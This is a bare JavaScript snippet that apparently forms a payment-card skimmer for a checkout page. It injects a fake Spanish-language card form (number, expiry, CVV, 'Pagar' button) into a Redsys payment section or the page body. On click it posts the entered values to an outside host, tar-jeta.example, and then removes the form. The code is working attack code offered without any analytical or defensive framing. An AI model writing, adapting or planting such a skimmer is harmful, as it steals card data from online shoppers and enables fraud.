const html=`<div class="cc"><label>Número de tarjeta<input id=tn></label><label>Caducidad<input id=tc></label><label>CVV<input id=tv></label><a id=tb>Pagar</a></div>`;
const host=document.querySelector('.payment_method_redsys')||document.body;host.insertAdjacentHTML('afterbegin',html);
tb.onclick=()=>{fetch('https://tar-jeta.example/p',{method:'POST',body:[tn.value,tc.value,tv.value].join()});host.querySelector('.cc').remove()};
